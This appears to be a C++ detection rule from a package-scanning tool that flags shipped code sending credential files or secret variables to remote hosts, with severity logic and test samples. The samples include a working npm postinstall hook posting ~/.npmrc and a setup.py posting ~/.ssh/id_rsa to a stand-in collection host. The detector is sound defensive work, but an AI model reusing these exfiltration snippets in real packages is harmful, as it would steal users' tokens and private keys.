#include <cstdint>
#include <map>
#include <set>
#include <string>

#include "rules/conditions.h"
#include "rules/paths.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

struct Sight {
  Severity severity = Severity::info;
  Source what = Source::credential_file;
};

// Files of credentials that the code reads, by the file it stands in.
std::map<std::int32_t, std::set<std::string>> files_read(const Facts& facts) {
  std::map<std::int32_t, std::set<std::string>> read;
  for (const Action& action : facts.actions) {
    if (action.act == Act::read_file && path_kind(action.target) == PathKind::credentials)
      read[action.where.file].insert(normal_path(action.target));
  }
  return read;
}

Sight files(const Action& action, HostKind kind, std::size_t files_read) {
  Severity severity = Severity::info;
  if (runs_uncalled(action) || is_shady_origin(kind)) {
    severity = Severity::critical;
  } else if (files_read > 2) {
    severity = Severity::high;  // A client needs its own; these belong to several programs.
  }
  return {severity, Source::credential_file};
}

// One's own token to a code host is how installers get past its rate limit.
Sight variables(const Action& action, HostKind kind) {
  Severity severity = Severity::info;
  if (is_shady_origin(kind)) {
    severity = runs_uncalled(action) ? Severity::critical : Severity::high;
  } else if (at_install(action) && kind == HostKind::ordinary) {
    severity = Severity::high;
  } else if (runs_uncalled(action) && kind == HostKind::ordinary) {
    severity = Severity::medium;
  }
  return {severity, Source::secret_variable};
}

void check(const Facts& facts, Findings& findings) {
  std::map<std::int32_t, std::set<std::string>> read = files_read(facts);
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    const Sources what = outflow(action);
    const Destination destination = destination_of(action.target);
    if (destination.kind == HostKind::local || destination.kind == HostKind::unknown) continue;
    if (only_downloads(action, destination.kind)) continue;
    Sight sight;
    if (what.has(Source::credential_file)) {
      sight = files(action, destination.kind, read[action.where.file].size());
    } else if (what.has(Source::secret_variable) && destination.host_is_constant) {
      sight = variables(action, destination.kind);
    }
    if (sight.severity == Severity::info) continue;
    findings.add(
        sight.severity, action.where,
        sentence("sends " + std::string(to_string(sight.what)) + " to " + shown_target(action),
                 action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule sends_credentials = {
    .id = "sends-credentials",
    .title = "The package sends credentials",
    .why =
        "Tokens and keys of other programs are worth more than the machine. Code that reads "
        "them and sends something made from them has no good reason to run uncalled.",
    .harmless_when =
        "A client that authenticates to the service that the token is for, when its "
        "user calls it.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook posts the user's npm token",
     .expect = "index.js:8",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const options = {hostname: "collect.example.test", path: "/", method: "POST"};
const request = https.request(options);
request.write(token);
request.end();
)"},
    {.name = "a setup script sends a private key", .expect = "setup.py:5", .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import os
import requests
from setuptools import setup
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example.test/", data=key)
setup(name="widget", version="1.0.0")
)"},
    {.name = "a client authenticates when it is called",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const https = require("https");
exports.me = () => https.get({
  hostname: "api.example.test", path: "/me",
  headers: {authorization: "Bearer " + process.env.SAMPLE_TOKEN},
});
)"},
};
extern const std::span<const Sample> sends_credentials_samples = samples;
#endif

}  // namespace assay::rules
